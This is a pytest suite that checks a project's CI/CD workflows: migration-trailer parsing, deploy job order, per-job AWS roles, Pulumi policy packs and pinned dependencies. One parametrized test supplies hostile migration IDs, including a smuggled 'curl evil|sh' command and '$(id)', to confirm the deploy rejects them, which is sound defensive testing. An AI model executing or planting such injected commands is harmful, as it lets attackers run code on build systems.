"""What the workflows do, beyond being well-formed: the migration trailer detection run for
real in a git repository, the order of deploy's jobs and steps, and the prism-dr commands
they call existing with the options they pass."""

from __future__ import annotations

import os
import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest
import yaml

ROOT = Path(__file__).resolve().parents[2]
WORKFLOWS = ROOT / ".github" / "workflows"
ZERO = "0" * 40


def _workflow(name: str) -> dict[str, Any]:
    doc = yaml.safe_load((WORKFLOWS / name).read_text())
    # YAML 1.1 reads the key `on` as True.
    doc["on"] = doc.pop(True, doc.get("on"))
    return doc


def _step(job: dict[str, Any], **match: str) -> dict[str, Any]:
    return next(s for s in job["steps"] if all(s.get(k) == v for k, v in match.items()))


def _uses(job: dict[str, Any], action: str) -> list[dict[str, Any]]:
    return [s for s in job["steps"] if s.get("uses", "").startswith(action + "@")]


# --- the migration trailer, detected by the workflow's own script ------------------------------


def _git(repo: Path, *args: str) -> str:
    env = {
        **os.environ,
        "GIT_AUTHOR_NAME": "t",
        "GIT_AUTHOR_EMAIL": "t@example.com",
        "GIT_COMMITTER_NAME": "t",
        "GIT_COMMITTER_EMAIL": "t@example.com",
    }
    return subprocess.run(
        ["git", *args], cwd=repo, env=env, check=True, capture_output=True, text=True
    ).stdout.strip()


def _commit(repo: Path, message: str) -> str:
    _git(repo, "commit", "--allow-empty", "-q", "-m", message)
    return _git(repo, "rev-parse", "HEAD")


@pytest.fixture
def repo(tmp_path: Path) -> Path:
    _git(tmp_path, "init", "-q", "-b", "main")
    _commit(tmp_path, "base")
    return tmp_path


def _find_migrations(repo: Path, before: str, after: str, manual: str = "") -> tuple[int, str, str]:
    script = _step(_workflow("deploy.yml")["jobs"]["migration"], id="find")["run"]
    output = repo / "github_output"
    output.write_text("")
    env = {**os.environ, "BEFORE": before, "AFTER": after, "MANUAL": manual}
    env["GITHUB_OUTPUT"] = str(output)
    result = subprocess.run(
        ["bash", "-e", "-c", script], cwd=repo, env=env, capture_output=True, text=True
    )
    return result.returncode, output.read_text(), result.stdout + result.stderr


def test_trailer_of_a_pushed_commit(repo: Path) -> None:
    before = _git(repo, "rev-parse", "HEAD")
    _commit(repo, "schema: add index\n\nPrism-Migration: 0042_add_building_index\n")
    after = _commit(repo, "docs: typo")
    code, output, _ = _find_migrations(repo, before, after)
    assert code == 0 and output == "ids=0042_add_building_index\n"


def test_several_migrations_in_one_push(repo: Path) -> None:
    before = _git(repo, "rev-parse", "HEAD")
    _commit(repo, "m1\n\nPrism-Migration: 0043_b\n")
    after = _commit(repo, "m2\n\nPrism-Migration: 0042_a\nSigned-off-by: t <t@example.com>\n")
    code, output, _ = _find_migrations(repo, before, after)
    assert code == 0 and output == "ids=0042_a 0043_b\n"


def test_no_trailer_means_no_snapshot(repo: Path) -> None:
    before = _git(repo, "rev-parse", "HEAD")
    after = _commit(repo, "feat: nothing for the database\n\nPrism-Migration is not a trailer here")
    code, output, _ = _find_migrations(repo, before, after)
    assert code == 0 and output == "ids=\n"


def test_a_new_branch_or_rewritten_history_reads_the_head_only(repo: Path) -> None:
    _commit(repo, "old\n\nPrism-Migration: 0001_old\n")
    after = _commit(repo, "new\n\nPrism-Migration: 0002_new\n")
    for before in (ZERO, "1234567" * 5 + "12345"):
        code, output, _ = _find_migrations(repo, before, after)
        assert code == 0 and output == "ids=0002_new\n"


def test_the_manual_input_wins(repo: Path) -> None:
    after = _commit(repo, "x\n\nPrism-Migration: 0003_x\n")
    code, output, _ = _find_migrations(repo, "", after, manual="0099_manual")
    assert code == 0 and output == "ids=0099_manual\n"


@pytest.mark.parametrize("bad", ["0042;curl evil|sh", "$(id)", "-rf", "../x"])
def test_an_id_that_is_not_one_stops_the_deploy(repo: Path, bad: str) -> None:
    before = _git(repo, "rev-parse", "HEAD")
    after = _commit(repo, f"x\n\nPrism-Migration: {bad}\n")
    code, output, log = _find_migrations(repo, before, after)
    assert code == 1 and output == ""
    assert "::error::Prism-Migration" in log


# --- order and wiring --------------------------------------------------------------------------


def test_deploy_is_staging_then_snapshot_then_prod() -> None:
    doc = _workflow("deploy.yml")
    assert doc["on"]["push"]["branches"] == ["main"]
    assert "migration" in doc["on"]["workflow_dispatch"]["inputs"]
    assert doc["concurrency"]["cancel-in-progress"] is False
    jobs = doc["jobs"]
    assert _uses(jobs["staging"], "pulumi/actions")[0]["with"]["stack-name"] == "staging"
    prod = jobs["prod"]
    assert set(prod["needs"]) == {"staging", "migration"}
    assert prod["environment"] == "production"
    names = [s.get("name", s.get("uses", "")) for s in prod["steps"]]
    snapshot = next(i for i, n in enumerate(names) if n.startswith("Pre-migration snapshot"))
    pulumi = [i for i, s in enumerate(prod["steps"]) if s.get("uses", "").startswith("pulumi/")]
    preview, up = pulumi
    # Prod is previewed here, behind the environment's approval, before the snapshot and up.
    assert prod["steps"][preview]["with"]["command"] == "preview"
    assert prod["steps"][preview]["with"]["stack-name"] == "prod"
    assert preview < snapshot < up
    step = prod["steps"][snapshot]
    assert step["if"] == "needs.migration.outputs.ids != ''"
    assert 'prism-dr snapshot create --stack prod --migration "$id"' in step["run"]
    assert "set -euo pipefail" in step["run"]
    assert prod["steps"][up]["with"]["command"] == "up"
    assert prod["steps"][up]["with"]["stack-name"] == "prod"


@pytest.mark.parametrize("workflow", ["preview.yml", "deploy.yml"])
def test_pulumi_runs_with_the_policy_pack_and_the_stacks_config(workflow: str) -> None:
    doc = _workflow(workflow)
    steps = [s for job in doc["jobs"].values() for s in _uses(job, "pulumi/actions")]
    assert steps
    for step in steps:
        stack = step["with"]["stack-name"]
        assert step["with"]["policyPacks"] == "policy"
        assert step["with"]["policyPackConfigs"] == f"policy/config/{stack}.json"
        if "matrix" not in stack:
            assert (ROOT / "policy" / "config" / f"{stack}.json").is_file()


def test_preview_tests_first_then_previews_staging_only_on_the_pr() -> None:
    doc = _workflow("preview.yml")
    assert "pull_request" in doc["on"] and "pull_request_target" not in doc["on"]
    preview = doc["jobs"]["preview"]
    assert preview["needs"] == "test"
    assert "strategy" not in preview  # no prod leg: a PR never runs with prod's key
    [step] = _uses(preview, "pulumi/actions")
    assert step["with"]["command"] == "preview"
    assert step["with"]["stack-name"] == "staging"
    [aws] = _uses(preview, "aws-actions/configure-aws-credentials")
    assert aws["with"]["role-to-assume"] == "${{ vars.AWS_PREVIEW_ROLE_ARN }}"
    assert step["with"]["comment-on-pr"] is True
    assert preview["permissions"] == {
        "contents": "read",
        "id-token": "write",
        "pull-requests": "write",
    }
    assert _step(doc["jobs"]["test"], run=".ci/run")
    for stack in ("staging", "prod"):
        assert (ROOT / "policy" / "config" / f"{stack}.json").is_file()


def test_state_is_the_bootstraps_bucket_and_no_passphrase_reaches_ci() -> None:
    """Secrets are decrypted with each stack's awskms:// key: no workflow holds a passphrase."""
    for path in WORKFLOWS.glob("*.yml"):
        text = path.read_text()
        assert "PULUMI_CONFIG_PASSPHRASE" not in text, path.name
        for step in (s for job in _workflow(path.name)["jobs"].values() for s in job["steps"]):
            if step.get("uses", "").startswith("pulumi/actions") and "command" in step["with"]:
                assert step["with"]["cloud-url"] == "${{ vars.PULUMI_BACKEND_URL }}"


def test_each_job_assumes_its_own_role() -> None:
    roles = {
        ("preview.yml", "preview"): "AWS_PREVIEW_ROLE_ARN",
        ("deploy.yml", "staging"): "AWS_DEPLOY_STAGING_ROLE_ARN",
        ("deploy.yml", "prod"): "AWS_PROD_DEPLOY_ROLE_ARN",
        ("drill.yml", "drill"): "AWS_DRILL_ROLE_ARN",
        ("audit.yml", "audit"): "AWS_AUDIT_ROLE_ARN",
        ("audit.yml", "prune"): "AWS_PRUNE_ROLE_ARN",
    }
    for (workflow, job), variable in roles.items():
        [aws] = _uses(_workflow(workflow)["jobs"][job], "aws-actions/configure-aws-credentials")
        assert aws["with"]["role-to-assume"] == f"${{{{ vars.{variable} }}}}"
    # The prune job's token must differ from the audit job's (infra/ci_roles.py SUBJECTS).
    jobs = _workflow("audit.yml")["jobs"]
    assert jobs["prune"]["environment"] == "prune" and "environment" not in jobs["audit"]


def test_audit_runs_weekly_and_fails_the_job_on_a_failed_check() -> None:
    doc = _workflow("audit.yml")
    [schedule] = doc["on"]["schedule"]
    *_, day, month, weekday = schedule["cron"].split()
    assert (day, month) == ("*", "*") and weekday.isdigit()
    assert "workflow_dispatch" in doc["on"]
    job = doc["jobs"]["audit"]
    step = _step(job, name="Backup posture of prod")
    assert step["run"] == ".venv/bin/prism-dr audit --stack prod"
    assert "continue-on-error" not in step and "continue-on-error" not in job


def test_python_dependencies_come_from_the_hash_pinned_lock() -> None:
    for path in WORKFLOWS.glob("*.yml"):
        doc = _workflow(path.name)
        for job in doc["jobs"].values():
            for step in job.get("steps", []):
                run = step.get("run", "")
                for line in run.splitlines():
                    if "pip install" in line and "-r requirements.lock" in line:
                        assert "--require-hashes" in line, f"{path.name}: {line}"
                    if "pip install" in line and "-e ." in line:
                        assert "--no-deps" in line, f"{path.name}: {line}"


@pytest.mark.parametrize(
    ("command", "options"),
    [
        (["snapshot", "create"], ["--stack", "--migration", "--json"]),
        (["snapshot", "prune"], ["--stack", "--yes", "--json"]),
        (["audit"], ["--stack"]),
        (["plan"], ["--stack"]),
    ],
)
def test_the_commands_the_workflows_call_exist(command: list[str], options: list[str]) -> None:
    result = subprocess.run(
        [sys.executable, "-m", "prism_dr", *command, "--help"],
        capture_output=True,
        text=True,
        timeout=120,
        env={**os.environ, "COLUMNS": "200"},
    )
    assert result.returncode == 0, result.stderr
    for option in options:
        assert option in result.stdout


def test_snapshot_prune_runs_weekly_with_yes() -> None:
    doc = _workflow("audit.yml")
    assert doc["on"]["schedule"]  # the same weekly schedule as the audit
    job = doc["jobs"]["prune"]
    step = _step(job, name="Prune expired pre-migration snapshots of prod")
    assert step["run"] == ".venv/bin/prism-dr snapshot prune --stack prod --yes --json"
    assert "continue-on-error" not in step and "continue-on-error" not in job
    role = _uses(job, "aws-actions/configure-aws-credentials")[0]["with"]["role-to-assume"]
    assert (
        role
        != _uses(doc["jobs"]["audit"], "aws-actions/configure-aws-credentials")[0]["with"][
            "role-to-assume"
        ]
    )  # the audit's role stays read-only


def test_the_scheduled_audit_sees_the_migration_trailers() -> None:
    [checkout] = _uses(_workflow("audit.yml")["jobs"]["audit"], "actions/checkout")
    assert checkout["with"]["fetch-depth"] == 0


def test_snapshot_records_land_through_a_pull_request() -> None:
    jobs = _workflow("deploy.yml")["jobs"]
    job = jobs["snapshot-records"]
    assert set(job["needs"]) == {"migration", "prod"}
    assert "always()" in job["if"] and "needs.migration.outputs.ids != ''" in job["if"]
    assert job["permissions"] == {"contents": "write", "pull-requests": "write"}
    [download] = _uses(job, "actions/download-artifact")
    assert download["with"]["path"] == "docs/audit/snapshots/"
    script = _step(job, name="Open the pull request (else the artifact is the record)")["run"]
    assert "git add docs/audit/snapshots" in script and "gh pr create" in script
    # The prod job itself only reads the repository.
    assert jobs["prod"]["permissions"]["contents"] == "read"
